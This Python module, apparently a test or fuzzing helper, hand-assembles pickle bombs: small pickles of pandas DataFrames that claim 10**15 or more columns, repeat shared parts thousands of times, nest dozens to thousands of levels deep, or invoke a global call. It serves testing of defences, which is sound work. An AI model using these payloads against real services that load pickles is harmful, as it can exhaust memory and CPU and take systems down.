"""Small pickles of DataFrames that claim to be huge, or whose parts are shared many times."""

import struct

from pickle_bombs import PROTOCOL, again, glob, integer, keep, long_integer, numpy_array, numpy_dtype, text, zeros


def range_index(stop: int) -> bytes:
    """Push a RangeIndex."""
    made = glob("pandas.core.indexes.base", "_new_Index") + glob("pandas.core.indexes.range", "RangeIndex")
    facts = text("name") + b"N" + text("start") + b"K\x00" + text("stop") + integer(stop) + text("step") + b"K\x01"
    return made + b"}(" + facts + b"u\x86R"


def multi_index(levels: bytes, codes: bytes) -> bytes:
    """Push a MultiIndex."""
    made = glob("pandas.core.indexes.base", "_new_Index") + glob("pandas.core.indexes.multi", "MultiIndex")
    return made + b"}(" + text("levels") + levels + text("codes") + codes + b"u\x86R"


def frame(blocks: bytes, axes: bytes) -> bytes:
    """Return the pickle of a DataFrame."""
    manager = glob("pandas.core.internals.managers", "BlockManager")
    return (
        PROTOCOL
        + glob("pandas.core.frame", "DataFrame")
        + b")\x81}"
        + text("_mgr")
        + manager
        + blocks
        + b"]("
        + axes
        + b"e\x86Rsb."
    )


def block(values: bytes, places: bytes) -> bytes:
    """Push a block of a DataFrame."""
    return glob("pandas._libs.internals", "_unpickle_block") + values + places + b"K\x02\x87R"


def first_places(count: int) -> bytes:
    """Push ``slice(0, count, 1)``."""
    return glob("builtins", "slice") + b"K\x00" + integer(count) + b"K\x01\x87R"


def frame_of_many_columns(columns: int = 10**15) -> bytes:
    """A DataFrame whose columns are ``range(10**15)``, with one block that claims to fill them."""
    return frame(b"(" + block(b"N", first_places(columns)) + b"t", range_index(columns) + range_index(5))


def frame_of_a_range_of_places() -> bytes:
    """A DataFrame with a block whose places are ``range(10**15)``."""
    places = glob("builtins", "range") + integer(10**15) + b"\x85R"
    return frame(b"(" + block(b"N", places) + b"t", range_index(5) + range_index(5))


def frame_of_shared_places(size: int = 10_000, times: int = 30_000) -> bytes:
    """A DataFrame with one block of 10,000 places, 30,000 times."""
    content = b"B" + struct.pack("<I", size * 8) + b"\1" * size * 8
    places = numpy_array(integer(size) + b"\x85", numpy_dtype("i8"), content)
    start = PROTOCOL + block(b"N", places) + keep(7) + b"0"
    return start + frame(b"(" + again(7) * times + b"t", range_index(5) + range_index(5))[2:]


def frame_of_shared_codes(size: int = 80_000, times: int = 10_000) -> bytes:
    """A MultiIndex of 10,000 levels with the same 80,000 codes."""
    start = PROTOCOL + range_index(3) + keep(5) + b"0" + zeros(size) + keep(6) + b"0"
    index = multi_index(b"](" + again(5) * times + b"e", b"](" + again(6) * times + b"e")
    return start + frame(b"(" + block(b"N", first_places(5)) + b"t", range_index(5) + index)[2:]


def frame_of_nested_levels(levels: int = 40) -> bytes:
    """A MultiIndex whose levels are twice the same MultiIndex, 40 levels deep."""
    start = PROTOCOL + range_index(3) + keep(10) + b"0" + zeros(1) + keep(9) + b"0"
    for number in range(levels):
        start += (
            multi_index(b"](" + again(10 + number) * 2 + b"e", b"](" + again(9) * 2 + b"e") + keep(11 + number) + b"0"
        )
    return start + frame(b"(" + block(b"N", first_places(3)) + b"t", again(10) + again(10 + levels))[2:]


def frame_of_nested_masks(levels: int = 60) -> bytes:
    """A column whose values and mask are the same masked column, 60 levels deep."""
    start = PROTOCOL + zeros(1) + keep(10)
    for number in range(levels):
        inner = again(10 + number)
        start += (
            b"0"
            + glob("x", "y")
            + b")\x81}("
            + text("_data")
            + inner
            + text("_mask")
            + inner
            + b"ub"
            + keep(11 + number)
        )
    blocks = b"(" + block(again(10 + levels), first_places(5)) + b"t"
    return start + b"0" + frame(blocks, range_index(1) + range_index(1))[2:]


def frame_of_many_categories() -> bytes:
    """A column of categories that are ``range(10**15)``."""
    kind = b"}(" + text("categories") + range_index(10**15) + text("ordered") + b"\x89ub"
    content = b"C\x28" + struct.pack("<5q", 0, 10**14, -1, 3, 10**15 - 1)
    codes = numpy_array(b"K\x05\x85", numpy_dtype("i8"), content)
    made = glob("pandas._libs.arrays", "__pyx_unpickle_NDArrayBacked") + glob(
        "pandas.core.arrays.categorical", "Categorical"
    )
    values = (
        made + b"K\0N\x87R" + glob("pandas.core.dtypes.dtypes", "CategoricalDtype") + b")R" + kind + codes + b"}\x87b"
    )
    return frame(b"(" + block(values, first_places(1)) + b"t", range_index(1) + range_index(5))


def frame_of_odd_names(name: bytes) -> bytes:
    """A DataFrame with one column and one row, whose names are this value."""
    names = numpy_array(b"K\x01\x85", numpy_dtype("O8"), b"]" + name + b"a")
    made = glob("pandas.core.indexes.base", "_new_Index") + glob("pandas.core.indexes.base", "Index")
    index = made + b"}" + text("data") + names + b"s\x86R"
    return frame(b"(" + block(zeros(1), first_places(1)) + b"t", index * 2)


def frame_beyond_counting() -> bytes:
    """The same with more columns than a machine's integer can count."""
    return frame_of_many_columns(10**21)


def frame_of_empty_codes(rows: int = 2 * 10**7) -> bytes:
    """A MultiIndex whose codes are an array of shape (20,000,000, 0): no bytes, and twenty million empty lists."""
    codes = numpy_array(integer(rows) + b"K\x00\x86", numpy_dtype("i8"), b"C\0")
    index = multi_index(b"]" + range_index(3) + b"a", b"]" + codes + b"a")
    return frame(b")", index + range_index(5))


def frame_of_a_deep_name() -> bytes:
    """A name of 3,000 levels."""
    return frame_of_odd_names(b")" + b"\x85" * 3_000)


def frame_of_a_long_number() -> bytes:
    """A name that is an integer of 12,000 digits."""
    return frame_of_odd_names(long_integer(5_000))


def frame_of_a_shared_name() -> bytes:
    """A name that is a pair of the same pair, 60 levels deep."""
    return frame_of_odd_names(b")" + b"".join(keep(20 + n) + again(20 + n) + b"\x86" for n in range(60)))


def frame_of_a_call() -> bytes:
    """A name that would be made by a call."""
    return frame_of_odd_names(glob("decimal", "Decimal") + text("1.5") + b"\x85R")
